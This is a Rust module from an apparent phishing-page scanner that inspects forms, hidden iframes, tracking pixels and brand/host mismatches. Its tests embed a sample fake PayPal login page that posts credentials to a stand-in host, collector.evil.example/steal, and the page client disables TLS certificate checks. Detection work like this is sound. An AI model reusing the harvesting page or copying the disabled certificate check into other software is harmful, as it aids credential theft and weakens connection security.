// src/core/scanner/content_scanner.rs

use std::sync::Arc;
use std::time::Duration;

use async_trait::async_trait;
use once_cell::sync::Lazy;
use regex::Regex;
use reqwest::Client;
use reqwest::header::{ACCEPT, ACCEPT_LANGUAGE};
use scraper::{ElementRef, Html, Selector};
use tokio::time::Instant;
use tracing::{debug, info, warn};
use url::Url;

use crate::core::cache::{CONTENT_TTL, cache_through};
use crate::core::error::{ProbeFailure, SetupError};
use crate::core::knowledge_base::KnowledgeBase;
use crate::core::models::{BrandCheck, FormInfo, Fragment, IframeInfo, Input, PageContent};
use crate::core::runner::{Probe, ProbeContext};

const PAGE_TIMEOUT: Duration = Duration::from_secs(2);
const MAX_PAGE_BYTES: usize = 5 * 1024 * 1024;
const BROWSER_USER_AGENT: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";

static FORM: Lazy<Selector> = Lazy::new(|| Selector::parse("form").unwrap());
static INPUT: Lazy<Selector> = Lazy::new(|| Selector::parse("input").unwrap());
static BUTTON: Lazy<Selector> = Lazy::new(|| Selector::parse("button").unwrap());
static ANCHOR: Lazy<Selector> = Lazy::new(|| Selector::parse("a").unwrap());
static LABEL: Lazy<Selector> = Lazy::new(|| Selector::parse("label").unwrap());
static IFRAME: Lazy<Selector> = Lazy::new(|| Selector::parse("iframe").unwrap());
static IMG: Lazy<Selector> = Lazy::new(|| Selector::parse("img").unwrap());
static TITLE: Lazy<Selector> = Lazy::new(|| Selector::parse("title").unwrap());

static NON_WORD: Lazy<Regex> = Lazy::new(|| Regex::new(r"[^a-z0-9]+").unwrap());

static LOGIN_TEXTS: &[&str] = &["login", "log in", "sign in", "signin", "submit", "sign-on", "signon", "sign up", "signup"];

/// Builds the client used to download pages. It presents itself as a desktop browser.
pub fn build_page_client() -> Result<Client, SetupError> {
    let client = Client::builder()
        .user_agent(BROWSER_USER_AGENT)
        .danger_accept_invalid_certs(true)
        .connect_timeout(Duration::from_millis(500))
        .build()?;
    Ok(client)
}

// --- Element helpers ---

/// Attribute value, or an empty string when absent.
fn attr<'a>(el: &ElementRef<'a>, name: &str) -> &'a str {
    el.value().attr(name).unwrap_or_default()
}

// Visible text of the element, trimmed.
fn element_text(el: &ElementRef<'_>) -> String {
    el.text().collect::<String>().trim().to_string()
}

fn contains_any(haystack: &str, needles: &[&str]) -> bool {
    needles.iter().any(|needle| haystack.contains(needle))
}

/// Hidden through the `hidden` attribute, `type=hidden`, inline style or zero size.
fn is_hidden(el: &ElementRef<'_>) -> bool {
    if el.value().attr("hidden").is_some() || attr(el, "type").eq_ignore_ascii_case("hidden") {
        return true;
    }
    let style: String = attr(el, "style").to_ascii_lowercase().split_whitespace().collect();
    if contains_any(&style, &["display:none", "visibility:hidden", "opacity:0", "width:0", "height:0"]) {
        return true;
    }
    attr(el, "width") == "0" || attr(el, "height") == "0"
}

/// Case-insensitive match against the known login button and label texts.
fn looks_like_login(text: &str) -> bool {
    contains_any(&text.to_lowercase(), LOGIN_TEXTS)
}

/// Renders an input as `type=..|name=..` from whichever identifying attributes it carries.
fn input_summary(el: &ElementRef<'_>) -> String {
    ["type", "name", "id", "placeholder", "aria-label"]
        .iter()
        .filter_map(|key| {
            let value = attr(el, key);
            (!value.is_empty()).then(|| format!("{key}={value}"))
        })
        .collect::<Vec<_>>()
        .join("|")
}

/// Resolves a form action against the page; an empty action or `#` submits to the page itself.
fn resolve_action(page: &Url, raw: &str) -> String {
    if raw.is_empty() || raw == "#" {
        return page.to_string();
    }
    page.join(raw).map(|url| url.to_string()).unwrap_or_else(|_| raw.to_string())
}

// --- Forms ---

fn inspect_input(el: &ElementRef<'_>, form: &mut FormInfo) {
    let kind = attr(el, "type").to_lowercase();
    let name = attr(el, "name").to_lowercase();
    let id = attr(el, "id").to_lowercase();
    let placeholder = attr(el, "placeholder").to_lowercase();
    let aria = attr(el, "aria-label").to_lowercase();
    form.input_names.push(input_summary(el));

    if kind == "password" || [&name, &id, &placeholder].iter().any(|v| v.contains("pass")) {
        form.has_password = true;
    }
    if kind == "email"
        || contains_any(&name, &["user", "login", "email"])
        || id.contains("user")
        || contains_any(&placeholder, &["user", "email"])
        || aria.contains("user")
    {
        form.has_username = true;
    }
    if contains_any(&name, &["card", "cvv", "expiry", "credit", "money", "pay", "billing"])
        || contains_any(&id, &["card", "cvv", "expiry", "credit"])
        || contains_any(&placeholder, &["card", "checkout", "payment"])
    {
        form.has_payment = true;
    }
    if contains_any(&name, &["address", "phone", "ssn", "dob", "birth", "city", "zip", "state"])
        || contains_any(&id, &["address", "phone", "ssn"])
        || contains_any(&placeholder, &["address", "phone"])
    {
        form.has_personal = true;
    }
}

/// Summarizes one `<form>`: method, resolved action, and the kinds of data its inputs ask for.
///
/// # Arguments
/// * `el` - The form element.
/// * `page` - URL of the page, used to resolve relative actions.
fn inspect_form(el: &ElementRef<'_>, page: &Url) -> FormInfo {
    let method = attr(el, "method").to_uppercase();
    let action = resolve_action(page, attr(el, "action"));
    let is_external = Url::parse(&action)
        .ok()
        .and_then(|url| url.host_str().map(str::to_string))
        .is_some_and(|host| !page.host_str().is_some_and(|page_host| page_host.eq_ignore_ascii_case(&host)));

    let mut form = FormInfo {
        method: if method.is_empty() { "GET".to_string() } else { method },
        is_hidden: is_hidden(el),
        is_external,
        action,
        ..Default::default()
    };

    for input in el.select(&INPUT) {
        inspect_input(&input, &mut form);
    }
    for button in el.select(&BUTTON) {
        let text = element_text(&button).to_lowercase();
        if looks_like_login(&text) {
            form.has_username = true;
        }
        if contains_any(&text, &["pay", "buy", "checkout", "order"]) {
            form.has_payment = true;
        }
    }
    for link in el.select(&ANCHOR) {
        if contains_any(&element_text(&link).to_lowercase(), &["pay", "checkout"]) {
            form.has_payment = true;
        }
    }
    for label in el.select(&LABEL) {
        let text = element_text(&label).to_lowercase();
        if text.contains("password") {
            form.has_password = true;
        }
        if contains_any(&text, &["username", "email", "sign in"]) {
            form.has_username = true;
        }
        if contains_any(&text, &["card", "cvv", "expiry", "credit"]) {
            form.has_payment = true;
        }
        if contains_any(&text, &["address", "phone", "zip"]) {
            form.has_personal = true;
        }
    }

    if !form.has_username && contains_any(&form.action.to_lowercase(), &["login", "signin", "auth"]) {
        form.has_username = true;
    }
    form
}

// --- Brand ---

/// Flags pages that mention a well-known brand while being served from an unrelated host.
///
/// A brand counts as mentioned when one of its keywords appears in the title
/// or as a whole word in the page text. The host is considered official when
/// it contains the brand name or any of its keywords.
pub fn check_brand_mismatch(host: &str, title: &str, body_text: &str, knowledge: &KnowledgeBase) -> BrandCheck {
    let host = host.to_lowercase();
    let title = title.to_lowercase();
    let words = format!(" {} ", NON_WORD.replace_all(&body_text.to_lowercase(), " ").trim());

    let mut check = BrandCheck::default();
    for brand in knowledge.brands() {
        let mentioned = brand
            .keywords
            .iter()
            .any(|kw| title.contains(kw) || words.contains(&format!(" {kw} ")));
        if !mentioned {
            continue;
        }
        check.detected_names.push(brand.name.to_string());

        let official = host.contains(&brand.name.to_lowercase()) || brand.keywords.iter().any(|kw| host.contains(kw));
        if !official && check.brand_found.is_none() {
            check.brand_found = Some(brand.name.to_string());
            check.is_mismatch = true;
        }
    }
    check
}

// --- Page ---

/// Extracts forms, iframes, tracking pixels and brand signals from an HTML document.
///
/// # Arguments
/// * `page` - The URL the document was served from; form actions resolve against it.
/// * `html` - The raw document.
/// * `knowledge` - Brand keywords.
pub fn analyze_page(page: &Url, html: &str, knowledge: &KnowledgeBase) -> PageContent {
    let document = Html::parse_document(html);

    let title = document.select(&TITLE).next().map(|el| element_text(&el)).unwrap_or_default();
    let forms: Vec<FormInfo> = document.select(&FORM).map(|el| inspect_form(&el, page)).collect();
    let iframes: Vec<IframeInfo> = document
        .select(&IFRAME)
        .map(|el| IframeInfo { src: attr(&el, "src").to_string(), is_hidden: is_hidden(&el) })
        .collect();
    let has_tracking_pixel = document.select(&IMG).any(|el| {
        let (w, h) = (attr(&el, "width"), attr(&el, "height"));
        (w == "1" && h == "1") || (w == "0" && h == "0")
    });
    let body_text = document.root_element().text().collect::<Vec<_>>().join(" ");
    let brand = check_brand_mismatch(page.host_str().unwrap_or_default(), &title, &body_text, knowledge);

    PageContent {
        url: page.to_string(),
        title,
        has_forms: !forms.is_empty(),
        has_login_form: forms.iter().any(|f| f.has_password || f.has_username),
        has_payment_form: forms.iter().any(|f| f.has_payment),
        has_personal_form: forms.iter().any(|f| f.has_personal),
        has_hidden_iframe: iframes.iter().any(|i| i.is_hidden),
        has_tracking_pixel,
        forms,
        iframes,
        brand,
        fetch_ms: 0,
    }
}

/// Downloads a page, keeping at most `MAX_PAGE_BYTES` of the body.
async fn fetch_page(client: &Client, ctx: &ProbeContext, url: &Url) -> Result<(Url, String), ProbeFailure> {
    let request = client
        .get(url.clone())
        .header(ACCEPT, "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
        .header(ACCEPT_LANGUAGE, "en-US,en;q=0.9");
    let mut response = ctx.bounded(PAGE_TIMEOUT, request.send()).await??;
    if !response.status().is_success() {
        warn!(url = %url, status = %response.status(), "Page returned a non-success status.");
    }
    let final_url = response.url().clone();

    let mut body: Vec<u8> = Vec::new();
    while let Some(chunk) = ctx.bounded(PAGE_TIMEOUT, response.chunk()).await?? {
        let room = MAX_PAGE_BYTES - body.len();
        if chunk.len() >= room {
            body.extend_from_slice(&chunk[..room]);
            debug!(url = %url, "Page body truncated.");
            break;
        }
        body.extend_from_slice(&chunk);
    }
    debug!(url = %final_url, bytes = body.len(), "Fetched page.");
    Ok((final_url, String::from_utf8_lossy(&body).into_owned()))
}

/// Fetches a page and analyzes its content.
pub async fn inspect_content(
    client: &Client,
    ctx: &ProbeContext,
    url: &Url,
    knowledge: &KnowledgeBase,
) -> Result<PageContent, ProbeFailure> {
    info!(url = %url, "Starting content analysis.");
    let started = Instant::now();
    let (final_url, html) = fetch_page(client, ctx, url).await?;
    let fetch_ms = u64::try_from(started.elapsed().as_millis()).unwrap_or(u64::MAX);

    let mut content = analyze_page(&final_url, &html, knowledge);
    content.fetch_ms = fetch_ms;
    info!(
        url = %url,
        forms = content.forms.len(),
        login = content.has_login_form,
        brand_mismatch = content.brand.is_mismatch,
        "Content analysis finished."
    );
    Ok(content)
}

pub struct ContentProbe {
    client: Client,
    knowledge: Arc<KnowledgeBase>,
}

impl ContentProbe {
    pub fn new(client: Client, knowledge: Arc<KnowledgeBase>) -> Self {
        Self { client, knowledge }
    }
}

#[async_trait]
impl Probe for ContentProbe {
    fn name(&self) -> &'static str {
        "content_check"
    }

    async fn run(&self, input: &Input, ctx: &ProbeContext) -> Result<Fragment, ProbeFailure> {
        let key = format!("{}:{}", self.name(), input.url);
        let cached = cache_through(
            input.cache(),
            &key,
            CONTENT_TTL,
            || inspect_content(&self.client, ctx, &input.url, &self.knowledge),
            Fragment::Content,
        )
        .await?;
        Ok(cached.fragment)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use pretty_assertions::assert_eq;
    use wiremock::matchers::{method, path};
    use wiremock::{Mock, MockServer, ResponseTemplate};

    const PHISHING_PAGE: &str = r#"
        <html>
          <head><title>PayPal - Log in to your account</title></head>
          <body>
            <form action="https://collector.evil.example/steal" method="post">
              <label>Email address</label>
              <input type="email" name="login_email" placeholder="Email">
              <input type="password" name="login_password">
              <button type="submit">Log In</button>
            </form>
            <iframe src="https://tracker.example/frame" style="display: none"></iframe>
            <img src="/p.gif" width="1" height="1">
          </body>
        </html>"#;

    fn page_url(raw: &str) -> Url {
        Url::parse(raw).unwrap()
    }

    #[test]
    fn test_detects_credential_harvesting_page() {
        let kb = KnowledgeBase::builtin();
        let content = analyze_page(&page_url("https://paypal-secure.login-check.xyz/"), PHISHING_PAGE, &kb);

        assert_eq!(content.title, "PayPal - Log in to your account");
        assert!(content.has_forms);
        assert!(content.has_login_form);
        assert!(!content.has_payment_form);

        let form = &content.forms[0];
        assert_eq!(form.method, "POST");
        assert!(form.is_external);
        assert!(form.has_password);
        assert!(form.has_username);
        assert_eq!(form.input_names[1], "type=password|name=login_password");

        assert!(content.has_hidden_iframe);
        assert!(content.has_tracking_pixel);
        // The host contains "paypal", so the brand is treated as official.
        assert!(!content.brand.is_mismatch);
        assert_eq!(content.brand.detected_names, vec!["PayPal"]);
    }

    #[test]
    fn test_brand_mismatch() {
        let kb = KnowledgeBase::builtin();
        let check = check_brand_mismatch("secure-verify.top", "Sign in", "Welcome back to Netflix. Update billing.", &kb);
        assert_eq!(check.brand_found.as_deref(), Some("Netflix"));
        assert!(check.is_mismatch);

        let official = check_brand_mismatch("www.netflix.com", "Netflix", "", &kb);
        assert!(!official.is_mismatch);
        assert_eq!(official.brand_found, None);

        let partial = check_brand_mismatch("example.com", "", "metadata and applesauce", &kb);
        assert!(partial.detected_names.is_empty());
    }

    #[test]
    fn test_relative_form_actions_stay_internal() {
        let kb = KnowledgeBase::builtin();
        let html = r#"<form action="/account/update"><input name="card_number"><input name="zip"></form>
                      <form><input name="q"></form>"#;
        let content = analyze_page(&page_url("https://shop.example.com/checkout"), html, &kb);

        assert_eq!(content.forms.len(), 2);
        assert_eq!(content.forms[0].action, "https://shop.example.com/account/update");
        assert!(!content.forms[0].is_external);
        assert!(content.has_payment_form);
        assert!(content.has_personal_form);
        assert_eq!(content.forms[1].action, "https://shop.example.com/checkout");
        assert_eq!(content.forms[1].method, "GET");
        assert!(!content.has_login_form);
        assert!(!content.has_tracking_pixel);
    }

    #[tokio::test]
    async fn test_inspect_content_over_http() {
        let server = MockServer::start().await;
        Mock::given(method("GET"))
            .and(path("/"))
            .respond_with(ResponseTemplate::new(200).set_body_raw(PHISHING_PAGE, "text/html"))
            .mount(&server)
            .await;

        let client = build_page_client().unwrap();
        let ctx = ProbeContext::new(Instant::now() + Duration::from_secs(5));
        let url = page_url(&format!("{}/", server.uri()));
        let content = inspect_content(&client, &ctx, &url, &KnowledgeBase::builtin()).await.unwrap();

        assert!(content.has_login_form);
        assert!(content.brand.is_mismatch);
        assert_eq!(content.brand.brand_found.as_deref(), Some("PayPal"));
    }
}
